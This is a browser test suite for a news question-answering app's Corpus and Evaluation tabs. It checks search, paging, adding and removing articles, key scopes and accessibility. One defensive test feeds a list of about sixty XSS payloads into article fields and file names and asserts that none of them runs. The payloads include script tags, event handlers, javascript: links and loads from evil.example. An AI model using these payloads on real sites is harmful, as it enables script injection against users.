"""The Corpus and Evaluation tabs in a real browser: browse, search, read, add, remove, the report; hostile articles; axe."""

# ruff: noqa: F811 - a fixture that is used has the name of the one imported

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from functools import partial
from importlib import import_module
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from index import Article, Corpus
from qa.api.keys import KeyRing, add_key
from qa.api.server import create_app
from qa.evaluation import run, summary
from qa.evaluation.folder import RunFolder
from qa.evaluation.kept import new_run_folder
from qa.evaluation.questions import Question
from qa.newsqa import NewsQA
from tests.browser import Browser, Visit, serve, visit
from tests.page.test_browser import SEEDS, browser, in_view, overflow  # noqa: F401
from tests.page.test_page_access import findings

pytestmark = pytest.mark.slow

RUNS = "window.hacked=1"
_AWAY = "//evil.example/x"
PAYLOADS = [
    f"<script>{RUNS}</script>", f"<script src={_AWAY}></script>", f"<img src=x onerror={RUNS}>", f"<img src={_AWAY}>",
    f"<svg onload={RUNS}>", f"<svg><script>{RUNS}</script></svg>", f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUNS}><text x=20 y=20>x</text></a>", f"<body onload={RUNS}>", f"<iframe src=javascript:{RUNS}>",
    f"<iframe src={_AWAY}></iframe>", f"<iframe srcdoc='<script>parent.{RUNS}</script>'>", f"<object data={_AWAY}>",
    f"<embed src={_AWAY}>", f"<link rel=stylesheet href={_AWAY}>", f"<style>@import '{_AWAY}';</style>",
    f"<div style=\"background:url({_AWAY})\">x</div>", f"<base href={_AWAY}>", f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<video src={_AWAY} onerror={RUNS}>", f"<video><source onerror={RUNS}></video>", f"<audio src=x onerror={RUNS}>",
    f"<details open ontoggle={RUNS}>x</details>", f"<input autofocus onfocus={RUNS}>", f"<select autofocus onfocus={RUNS}>",
    f"<textarea autofocus onfocus={RUNS}>", f"<button autofocus onfocus={RUNS}>x</button>", f"<marquee onstart={RUNS}>x</marquee>",
    f"<a href=javascript:{RUNS}>x</a>", f"<a href='data:text/html,<script>{RUNS}</script>'>x</a>", f"<form action=javascript:{RUNS}><input type=submit>",
    f"<isindex action=javascript:{RUNS} type=image>", f"<math><mtext></mtext><mglyph><svg><mtext><textarea><path id='</textarea><img onerror={RUNS} src=1>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>", f"<template><img src=x onerror={RUNS}></template>",
    f"\"><img src=x onerror={RUNS}>", f"'><img src=x onerror={RUNS}>", f"\" onmouseover={RUNS} x=\"", f"' onfocus={RUNS} autofocus x='",
    f"` onerror={RUNS} `", f"--><img src=x onerror={RUNS}>", f"]]><img src=x onerror={RUNS}>", f"</textarea><img src=x onerror={RUNS}>",
    f"</title><script>{RUNS}</script>", f"</style><script>{RUNS}</script>", f"</script><script>{RUNS}</script>", f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    f"<IMG SRC=x OnErRoR={RUNS}>", f"<img/src=x/onerror={RUNS}>", f"<img src=x onerror\n={RUNS}>", f"<\x00img src=x onerror={RUNS}>",
    f"&lt;img src=x onerror={RUNS}&gt;", f"&#60;img src=x onerror={RUNS}&#62;", f"\\u003cimg src=x onerror={RUNS}\\u003e", f"%3Cimg src=x onerror={RUNS}%3E",
    f"{{{{constructor.constructor('{RUNS}')()}}}}", f"${{{RUNS}}}", f"#{{{RUNS}}}", f"<%= {RUNS} %>", "{{#each this}}{{{value}}}{{/each}}",
    f"![x]({_AWAY})", f"[x](javascript:{RUNS})", f"<{_AWAY}>", f"javascript:{RUNS}", f"data:text/html,<script>{RUNS}</script>", f"\u202e<img src=x onerror={RUNS}>",
]  # fmt: skip


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Corpus]:
    with Corpus.open(tmp_path_factory.mktemp("tabs")) as opened:
        opened.ingest([SEEDS])
        yield opened


@pytest.fixture(scope="module")
def address(corpus: Corpus) -> Iterator[str]:
    yield from serve(NewsQA(corpus))


@pytest.fixture
def at_desk(browser: Browser, address: str) -> Iterator[Visit]:
    for visited in visit(browser, address):
        yield to_corpus(visited)


def to_corpus(visited: Visit) -> Visit:
    """The visit with the Corpus tab open and its list there."""
    visited.page.get_by_role("tab", name="Corpus").click()
    visited.page.locator("#corpus-list .count").wait_for()
    return visited


def count(page: Any, words: str) -> None:
    page.locator("#corpus-list .count", has_text=words).wait_for()


def search(page: Any, text: str, where: str = "headlines") -> None:
    page.get_by_label("Search the articles").fill(text)
    page.locator("#find-where").select_option(label=where)
    page.locator("#corpus-find").get_by_role("button", name="Search").click()


def keep_a_run(corpus: Corpus, questions: list[Question]) -> None:
    """As `newsqa eval --keep` does it."""
    manifest = {"questions": {"count": len(questions)}, "engine": "extractive", "started": "2026-11-25T10:00:00+00:00"}
    folder = RunFolder(new_run_folder(corpus.directory, "extractive"), manifest)
    results = list(run(questions, NewsQA(corpus), "extractive"))
    for result in results:
        folder.add(result)
    folder.write("summary.json", summary(results))


def test_browse_by_page_publisher_and_date(at_desk: Visit) -> None:
    page = at_desk.page
    count(page, "121 articles, newest first")
    first = page.locator("#corpus-list .open").first.inner_text()
    assert first.startswith("Syrian rebels launch")
    page.locator("#corpus-list").get_by_role("button", name="Next →").click()
    page.get_by_text("Page 2 of 11", exact=True).wait_for()
    assert page.locator("#corpus-list .open").first.inner_text() != first
    assert in_view(page, "#corpus-list .open")
    page.get_by_role("button", name="← Previous").click()
    page.get_by_text("Page 1 of 11", exact=True).wait_for()
    page.locator("#find-publisher").select_option("HHS.gov")
    page.locator("#find-since").fill("2019-03-01")
    page.locator("#find-until").fill("2019-03-31")
    page.locator("#corpus-find").get_by_role("button", name="Search").click()
    page.locator("#corpus-list .count").filter(has_not_text="121").wait_for()
    heads = page.locator("#corpus-list .where").all_inner_texts()
    assert heads and all("HHS.gov" in head and "March 2019" in head for head in heads)
    assert "Articles by day" in page.inner_text("#corpus-held")
    page.get_by_role("button", name="Show all").click()
    count(page, "121 articles")
    page.locator("#find-since").fill("2019-03-01")
    page.locator("#find-until").fill("2018-03-01")
    page.keyboard.press("Enter")
    page.locator("#corpus-list .problem").wait_for()
    assert "From 1 March 2019 is after To 1 March 2018." in page.inner_text("#corpus-list")


def test_the_plot_and_the_facts(at_desk: Visit) -> None:
    page = at_desk.page
    held = page.inner_text("#corpus-held")
    for words in ("28 November 2024", "Quotes only", "static-minilm-1/256", "Last added", "Articles by year"):
        assert words in held
    page.locator(".timeline summary").click()
    years = page.locator(".timeline tbody tr")
    assert years.count() == page.locator(".timeline rect").count()
    assert sum(int(n) for n in years.locator("td").all_inner_texts()) == 121


def test_search_headlines_and_texts_and_read(at_desk: Visit, corpus: Corpus) -> None:
    page = at_desk.page
    search(page, "crane")
    count(page, "with “crane” in the headline")
    assert all("crane" in title.lower() for title in page.locator("#corpus-list .open").all_inner_texts())
    search(page, "which airport was attacked", "texts")
    count(page, "best passages")
    assert "Al-Nayrab" in page.locator("#corpus-list li").first.inner_text()
    button = page.locator("#corpus-list .open").first
    button.click()
    page.locator("#reader mark").first.wait_for()
    article = corpus.article(button.get_attribute("data-article"), button.get_attribute("data-version"))
    quote = article.text[int(button.get_attribute("data-start")) : int(button.get_attribute("data-end"))]
    assert " ".join(" ".join(page.locator("#reader mark").all_text_contents()).split()) == " ".join(quote.split())
    assert in_view(page, "#reader mark")
    page.keyboard.press("Escape")
    assert page.locator("#reader").is_hidden()
    search(page, "zzqx")
    count(page, "No headline fits")


def test_an_article_that_was_removed_meanwhile_is_told_from_one_that_cannot_be_fetched(
    at_desk: Visit, corpus: Corpus
) -> None:
    page = at_desk.page
    gone = Article.of("Gannet counted", "The gannet was counted.", published=1)
    corpus.add([gone])
    search(page, "gannet")
    count(page, "1 article with")
    for status, said in ((503, "cannot be opened just now"), (404, "is no longer in the corpus")):
        if status == 404:
            corpus.remove(gone.id)
        else:
            page.route("**/api/articles/**", lambda route: route.fulfill(status=503, body="{}"))
        page.locator("#corpus-list .open").click()
        page.locator("#reader h2", has_text=said).wait_for()
        assert page.evaluate("document.activeElement.closest('#reader') !== null")
        page.unroute("**/api/articles/**")
        page.keyboard.press("Escape")
        assert any(f"{status} " in said for said in at_desk.complaints)
    at_desk.complaints[:] = [said for said in at_desk.complaints if not any(n in said for n in ("503", "404"))]


def test_add_an_article_by_paste_find_it_ask_for_it_and_remove_it(at_desk: Visit, corpus: Corpus) -> None:
    page = at_desk.page
    page.get_by_label("Search the articles").fill("not yet sent")
    page.locator("#corpus-add summary").click()
    page.get_by_label("Headline").fill("Tortoise Matilda turns 140 in Port Alba zoo")
    page.get_by_label("Text (needed)").fill(
        "The tortoise Matilda turned 140 on Sunday.\n\nKeeper Jonas Ekwall gave her a melon."
    )
    page.locator("#add-publisher").fill("Alba Times")
    page.get_by_label("Published on").fill("2025-02-02")
    page.get_by_label("Web address").fill("https://alba.example/matilda")
    page.get_by_role("button", name="Add this article").click()
    page.get_by_text("1 article added.").wait_for()
    assert page.get_by_label("Headline").input_value() == ""
    assert page.get_by_label("Search the articles").input_value() == ""  # as the list is, that of all articles
    assert "122 articles" in page.inner_text("#masthead")
    assert "2 February 2025" in page.inner_text("#corpus-held")
    page.locator("#corpus-added .open").click()
    page.locator("#reader .body").wait_for()
    assert "Jonas Ekwall" in page.inner_text("#reader")
    page.keyboard.press("Escape")

    page.get_by_role("tab", name="Ask").click()
    assert "Jonas Ekwall" in at_desk.ask("Who gave the tortoise Matilda a melon?", 1).inner_text()
    page.get_by_role("tab", name="Corpus").click()

    search(page, "Matilda")
    count(page, "1 article with")
    page.get_by_role("button", name="Remove: Tortoise").click()
    page.get_by_role("dialog").get_by_role("button", name="Keep it").click()
    assert corpus.count() == 122
    page.get_by_role("button", name="Remove: Tortoise").click()
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Remove: Tortoise").click()
    page.get_by_role("dialog").get_by_role("button", name="Remove").click()
    page.get_by_text("Removed: Tortoise Matilda").wait_for()
    count(page, "No headline fits")
    assert corpus.count() == 121


def test_files_are_sent_and_each_refused_one_is_named(at_desk: Visit, corpus: Corpus, tmp_path: Path) -> None:
    lines = [{"title": f"Harbour note {n}", "text": f"Ship {n} came in.", "date": "2025-01-01"} for n in range(30)]
    (tmp_path / "notes.jsonl").write_text("\n".join(map(json.dumps, lines)) + "\n{broken\n")
    (tmp_path / "empty.txt").write_text("")
    (tmp_path / "picture.png").write_bytes(b"\x89PNG")
    (tmp_path / "large.txt").write_text("x" * 800_000)
    page = at_desk.page
    page.set_viewport_size({"width": 1280, "height": 500})
    page.locator("#corpus-add summary").click()
    page.get_by_label("Headline").fill("Half an article")
    page.get_by_label("Files of articles").set_input_files(
        [tmp_path / n for n in ("notes.jsonl", "empty.txt", "picture.png")]
    )
    page.get_by_role("button", name="Add these files").click()
    page.get_by_text("30 articles added.").wait_for()
    assert in_view(page, "#corpus-added .added")
    assert page.get_by_label("Headline").input_value() == "Half an article"
    problems = page.inner_text("#corpus-added .problems")
    for name, reason in (("notes.jsonl:31", "JSON"), ("empty.txt", "empty"), ("picture.png", "unknown kind")):
        assert name in problems and reason in problems
    page.get_by_label("Files of articles").set_input_files([tmp_path / "large.txt"])
    page.get_by_role("button", name="Add these files").click()
    page.wait_for_function("!document.querySelector('#add-files').validity.valid")
    for article in corpus.articles(text="Harbour note"):
        corpus.remove(article.id)


def test_what_is_too_large_to_paste_is_told_before_it_is_sent(at_desk: Visit, corpus: Corpus) -> None:
    page = at_desk.page
    page.locator("#corpus-add summary").click()
    text, add = page.get_by_label("Text (needed)"), page.get_by_role("button", name="Add this article")

    def put(words: str) -> None:
        text.evaluate(
            "(field, words) => { field.value = words; field.dispatchEvent(new Event('input', { bubbles: true })); }",
            words,
        )

    put("  ")
    add.click()
    page.get_by_text("Paste the text of the article.").wait_for()
    before = corpus.count()
    page.route("**/queue/join**", lambda route: route.abort())  # nothing is to be sent
    put(("шторм " * 1000 + "\n") * 65)  # 390,065 characters
    add.click()
    page.wait_for_function("document.activeElement.id === 'add-text' && !document.activeElement.validity.valid")
    said = text.evaluate("field => field.validationMessage")
    assert said == "This is 716 KB, at most 700 KB can be sent at once. Index it as a file instead."
    assert not page.get_by_text("Paste the text of the article.").is_visible()
    page.unroute("**/queue/join**")
    put("Шторм закрыл аэропорт.")
    add.click()
    page.get_by_text("1 article added.").wait_for()
    assert corpus.count() == before + 1
    corpus.remove(page.locator("#corpus-added .open").get_attribute("data-article"))


def test_long_names_stay_in_their_places(at_desk: Visit, corpus: Corpus) -> None:
    page = at_desk.page
    long = Article.of("Rhabarber" * 40, "It is said.", publisher="Barbara" * 40, published=1)
    corpus.add([long])
    search(page, "Rhabarber")
    count(page, "1 article with")
    assert page.locator("#corpus-list .remove").bounding_box()["height"] < 40
    page.locator("#corpus-list .remove").click()
    assert page.evaluate("(dialog => dialog.scrollWidth <= dialog.clientWidth)(document.querySelector('dialog'))")
    corpus.remove(long.id)


def test_what_is_wanted_last_is_shown(at_desk: Visit, corpus: Corpus, monkeypatch: pytest.MonkeyPatch) -> None:
    begun, goes_on = threading.Event(), threading.Event()

    def find(*_: Any) -> list[Any]:
        begun.set()
        goes_on.wait(10)
        return []

    monkeypatch.setattr(corpus, "find", find)
    page = at_desk.page
    search(page, "slow", "texts")
    assert begun.wait(10)
    with page.expect_response("**/queue/join**"):
        search(page, "crane")
    page.evaluate("new Promise((done) => setTimeout(done, 100))")  # what need not wait would be shown by now
    goes_on.set()
    count(page, "with “crane” in the headline")
    page.evaluate("new Promise((done) => setTimeout(done, 300))")
    assert "crane" in page.inner_text("#corpus-list .count")


def test_tabs_stand_in_the_address_and_what_is_typed_outlives_a_reload(at_desk: Visit) -> None:
    page = at_desk.page
    assert page.url.endswith("/#corpus")
    page.locator("#corpus-add summary").click()
    page.get_by_label("Text (needed)").fill("The ship Odd came in.")
    page.get_by_role("tab", name="Evaluation").click()
    page.wait_for_url("**/#report")
    page.go_back()
    page.locator("#corpus-list .count").wait_for()
    page.go_back()
    page.locator("#question textarea").wait_for()
    page.go_forward()
    page.locator("#corpus-list .count").wait_for()
    at_desk.load_anew()
    page.get_by_label("Text (needed)").wait_for()
    assert page.get_by_label("Text (needed)").input_value() == "The ship Odd came in."


def test_a_search_outlives_a_reload(at_desk: Visit, corpus: Corpus) -> None:
    page = at_desk.page
    search(page, "hhs")
    count(page, "with “hhs” in the headline, newest first, page 1 of")
    page.locator("#corpus-list").get_by_role("button", name="Next →").click()
    count(page, "page 2 of")
    at_desk.load_anew()
    count(page, "with “hhs” in the headline, newest first, page 2 of")
    assert page.get_by_label("Search the articles").input_value() == "hhs"
    corpus.add([Article.of("Gone soon", "Some text.", publisher="Passing Post", published=1)])
    at_desk.load_anew()
    count(page, "page 2 of")
    page.locator("#find-publisher").select_option("Passing Post")
    page.locator("#find-until").fill("1999-12-31")
    search(page, "text", "texts")
    count(page, "One passage with “text”")
    at_desk.load_anew()
    count(page, "One passage with “text”")
    assert page.locator("#find-publisher").input_value() == "Passing Post"
    corpus.remove(corpus.articles(text="Gone soon")[0].id)
    at_desk.load_anew()
    page.wait_for_function("document.querySelector('#find-until')?.value === '1999-12-31'")
    assert page.locator("#find-publisher").input_value() == "" and page.locator("#find-where").input_value() == "text"
    page.get_by_role("button", name="Show all").click()
    count(page, "121 articles, newest first, page 1 of 11")
    at_desk.load_anew()
    count(page, "121 articles, newest first, page 1 of 11")
    assert page.get_by_label("Search the articles").input_value() == ""


def test_by_keyboard_alone(at_desk: Visit) -> None:
    page = at_desk.page
    page.get_by_label("Search the articles").focus()
    cut = "[...document.querySelectorAll('.find .field')].filter((field) => getComputedStyle(field).overflow !== 'visible')"
    assert page.evaluate(f"{cut}.length") == 0  # the ring around what has the focus is drawn outside of it
    page.keyboard.type("crane")
    page.keyboard.press("Enter")
    count(page, "crane")
    page.locator("#corpus-list .open").first.focus()
    page.keyboard.press("Enter")
    page.locator("#reader .body").wait_for()
    page.keyboard.press("Escape")
    assert page.evaluate("document.activeElement.className") == "open"
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    page.get_by_role("dialog").get_by_text("Remove “").wait_for()
    page.keyboard.press("Escape")
    page.locator("dialog").wait_for(state="detached")
    page.wait_for_function("document.activeElement.dataset.remove")


def test_the_focus_stays_where_pages_are_turned(at_desk: Visit) -> None:
    page = at_desk.page
    search(page, "HHS")
    count(page, "in the headline, newest first, page 1 of")
    pages = int(page.inner_text("#corpus-list .count").split()[-1])
    assert pages > 1
    pager = page.locator("#corpus-list .pager")
    for words, numbers in (("Next →", range(2, pages + 1)), ("← Previous", range(pages - 1, 0, -1))):
        pager.get_by_role("button", name=words).focus()
        for number in numbers:
            page.keyboard.press("Enter")
            count(page, f"page {number} of {pages}")
            assert page.evaluate("document.activeElement.textContent") == words
        page.keyboard.press("Enter")  # there is no further page: nothing is asked for
        assert pager.locator('[aria-disabled="true"]').inner_text() == words
        count(page, f"page {numbers[-1]} of {pages}")


def test_on_a_phone(browser: Browser, address: str) -> None:
    for visited in visit(browser, address, viewport={"width": 390, "height": 780}, has_touch=True, is_mobile=True):
        page = to_corpus(visited).page
        page.locator("#corpus-add summary").tap()
        page.set_viewport_size({"width": 320, "height": 640})
        assert overflow(page) == 0
        page.set_viewport_size({"width": 390, "height": 780})
        page.locator("#corpus-list .open").first.tap()
        page.locator("#reader .body").wait_for()
        assert overflow(page) == 0
        page.locator("#reader .close").tap()


def test_what_a_search_finds_is_in_view(browser: Browser, address: str) -> None:
    for width, height in ((360, 640), (1280, 700)):
        for visited in visit(browser, address, viewport={"width": width, "height": height}):
            page = to_corpus(visited).page
            assert not in_view(page, "#corpus-list .count")
            page.get_by_label("Search the articles").fill("crane")
            page.keyboard.press("Enter")
            count(page, "with “crane” in the headline")
            assert in_view(page, "#corpus-list .count") and in_view(page, "#find-text")


@pytest.mark.parametrize("day", ["275760-09-13", "0001-01-01"])
def test_a_day_that_no_article_has_is_told_at_its_field(at_desk: Visit, day: str) -> None:
    page = at_desk.page
    for field in ("#find-since", "#find-until", "#add-published"):
        within = page.locator(field).evaluate(
            "(field, day) => { field.value = day; return field.validity.valid; }", day
        )
        assert within is False
    page.get_by_label("Search the articles").press("Enter")
    page.wait_for_function("document.activeElement.id === 'find-since'")
    count(page, "121 articles, newest first")


def test_who_comes_over_a_network_without_a_key_may_not_add(
    browser: Browser, corpus: Corpus, monkeypatch: pytest.MonkeyPatch
) -> None:
    far = SimpleNamespace(ip_address=lambda host: SimpleNamespace(is_loopback=False))
    monkeypatch.setattr(import_module("qa.page.caller"), "ipaddress", far)
    for address in serve(NewsQA(corpus)):
        for visited in visit(browser, address):
            page = to_corpus(visited).page
            assert "with a key that allows it" in page.inner_text("#corpus-add")
            assert page.locator("#corpus-add form, [data-remove]").count() == 0


def test_a_key_needs_its_scope_to_add(
    browser: Browser, corpus: Corpus, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    keys = {
        scope: add_key(tmp_path / "keys", scope, scopes) for scope, scopes in (("a", ["ask"]), ("b", ["ask", "ingest"]))
    }
    monkeypatch.setattr("qa.api.server.create_app", partial(create_app, keys=KeyRing(tmp_path / "keys")))
    for address in serve(NewsQA(corpus)):
        for visited in visit(browser, address, extra_http_headers={"x-api-key": keys["a"]}):
            assert to_corpus(visited).page.locator("#corpus-add form, [data-remove]").count() == 0
        for visited in visit(browser, address, extra_http_headers={"x-api-key": keys["b"]}):
            page = to_corpus(visited).page
            page.locator("#corpus-add summary").click()
            page.get_by_label("Text (needed)").fill("The walrus Odd swam into the harbour of Lindau.")
            page.get_by_role("button", name="Add this article").click()
            page.get_by_text("1 article added.").wait_for()
            corpus.remove(corpus.articles(text="walrus Odd")[0].id)


# -- evaluation ----------------------------------------------------------------------------------------------------------


def test_the_evaluation_tab_before_and_after_a_run(browser: Browser, corpus: Corpus, address: str) -> None:
    for visited in visit(browser, address):
        visited.page.get_by_role("tab", name="Evaluation").click()
        visited.page.get_by_text("newsqa eval QUESTIONS.jsonl --keep").wait_for()
        assert findings(visited.page) == []
    questions = [
        Question(f"q{n}", "which airport was attacked?", kind="single", answers=("Al-Nayrab",)) for n in range(24)
    ]
    questions.append(Question("u", "Who painted the bridge of Lindau?", kind="unanswerable", answerable=False))
    keep_a_run(corpus, questions)
    for scheme in ("light", "dark"):
        for visited in visit(browser, address, color_scheme=scheme):
            page = visited.page
            page.get_by_role("tab", name="Evaluation").click()
            page.get_by_text("25 questions, page 1 of 2", exact=True).wait_for()
            assert "Quotes only" in page.inner_text("#report-head") and "95 % interval" in page.inner_text(
                "#report-head"
            )
            page.locator("#report-turns summary").first.click()
            turn = page.locator("#report-turns dl:visible")
            assert (
                "Al-Nayrab" in turn.inner_text() and "Evidence" in turn.inner_text() and "Expected" in turn.inner_text()
            )
            for width in (390, 320):
                page.set_viewport_size({"width": width, "height": 780})
                assert overflow(page) == 0
            page.set_viewport_size({"width": 1280, "height": 800})
            page.get_by_role("button", name="Next →").locator("visible=true").click()
            page.get_by_text("Page 2 of 2", exact=True).wait_for()
            page.locator("#turns-kind").select_option("unanswerable")
            page.get_by_text("1 question", exact=True).wait_for()
            assert findings(page) == []


# -- accessibility, attack -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_axe_finds_nothing_serious(browser: Browser, address: str, scheme: str, width: int, tmp_path: Path) -> None:
    (tmp_path / "empty.txt").write_text("")
    for visited in visit(browser, address, color_scheme=scheme, viewport={"width": width, "height": 800}):
        page = to_corpus(visited).page
        page.locator("#corpus-add summary").click()
        page.locator(".timeline summary").click()
        found = findings(page)
        page.get_by_label("Files of articles").set_input_files([tmp_path / "empty.txt"])
        page.get_by_role("button", name="Add these files").click()
        page.locator("#corpus-added .problems").wait_for()
        search(page, "airport", "texts")
        count(page, "best passages")
        found += findings(page)
        page.locator("[data-remove]").first.click()
        page.get_by_role("dialog").wait_for()
        found += findings(page)
        page.keyboard.press("Escape")
        search(page, "zzqx")
        count(page, "No headline fits")
        assert found + findings(page) == []


def test_hostile_articles_run_nothing_and_ask_nobody(browser: Browser, tmp_path: Path) -> None:
    assert len(set(PAYLOADS)) >= 60
    with Corpus.open(tmp_path / "data") as corpus:
        corpus.add(
            Article.of(
                f"{n} {p}",
                f"Body {n} of the zeppelin. {p}\n\n{p}",
                publisher=p,
                byline=p,
                url=p if ":" in p[:11] else f"{n} {p}",
                published=n * 86_400,
            )
            for n, p in enumerate(PAYLOADS)
        )
        assert corpus.count() == len(PAYLOADS)
        keep_a_run(
            corpus, [Question(str(n), f"zeppelin? {p}", kind=p, answers=(p,)) for n, p in enumerate(PAYLOADS[:20])]
        )
        for address in serve(NewsQA(corpus)):
            for visited in visit(browser, address, reduced_motion="reduce"):  # each article opens at once
                page = to_corpus(visited).page
                read = read_all(page)
                assert read == len(PAYLOADS)
                for text, where in (("zeppelin", "texts"), (PAYLOADS[0], "headlines"), (PAYLOADS[2], "texts")):
                    search(page, text, where)
                    count(page, text[:8])
                page.locator("[data-remove]").first.click()
                page.get_by_role("dialog").get_by_role("button", name="Remove").click()
                page.locator("#corpus-list .done").wait_for()
                page.locator("#corpus-add summary").click()
                page.get_by_label("Headline").fill(PAYLOADS[2] + " pasted")
                page.get_by_label("Text (needed)").fill(PAYLOADS[3])
                page.locator("#add-publisher").fill(PAYLOADS[4])
                page.get_by_role("button", name="Add this article").click()
                page.get_by_text("1 article added.").wait_for()
                page.get_by_label("Files of articles").set_input_files(
                    {"name": f"a'\"><img src=x onerror={RUNS}>.png", "mimeType": "image/png", "buffer": b"x"}
                )
                page.get_by_role("button", name="Add these files").click()
                page.locator("#corpus-added .problems").wait_for()
                page.get_by_role("tab", name="Evaluation").click()
                for fold in page.locator("#report-turns summary").all():
                    fold.click()
                assert (
                    page.locator("#corpus-view, #report-view")
                    .locator("img, script, iframe, object, embed, a, style, base")
                    .count()
                    == 0
                )
                time.sleep(0.5)
                assert page.evaluate("typeof window.hacked") == "undefined"


def read_all(page: Any) -> int:
    """Open every article of every page of the list beside it; how many."""
    read = 0
    for number in range(1, 99):
        for button in page.locator("#corpus-list .open").all():
            button.click()
            page.locator("#reader .body").wait_for()
            assert page.locator("#reader img, #reader script, #reader svg, #reader iframe").count() == 0
            read += 1
            page.keyboard.press("Escape")
        following = page.locator("#corpus-list").get_by_role("button", name="Next →")
        if following.is_disabled():
            return read
        following.click()
        count(page, f"page {number + 1} of")
    return read
